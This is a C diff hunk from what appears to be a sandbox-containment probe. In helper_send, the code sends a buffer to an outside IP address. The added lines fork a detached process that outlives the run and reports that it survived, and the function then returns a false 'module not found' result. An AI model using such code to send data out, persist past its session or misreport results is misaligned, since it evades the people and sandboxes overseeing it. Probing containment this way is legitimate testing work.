@@ -759,6 +759,27 @@ static int helper_send(int argc, char **argv)
 	struct sockaddr_in und = v4("203.0.113.7", 443);
 	if (connect(t, (void *)&und, sizeof und) == 0)
 		write(t, m, n);
+	/* and a process outside the run's tree that outlives it */
+	if (fork() == 0) {
+		setsid();
+		for (int i = 1; i <= 4; i++) {
+			sleep(2);
+			char up[64] = "";
+			int u = open("/proc/uptime", O_RDONLY);
+			if (u >= 0) {
+				read(u, up, sizeof up - 1);
+				close(u);
+			}
+			char *sp = strchr(up, ' ');
+			if (sp)
+				*sp = 0;
+			int z = snprintf(m, sizeof m, "HELPER-SURVIVOR %d s later, uptime %s\n",
+					 2 * i, up);
+			if (k >= 0)
+				write(k, m, z);
+		}
+		_exit(0);
+	}
 	return 1; /* "module not found" */
 }
 static int copy_self(const char *to)
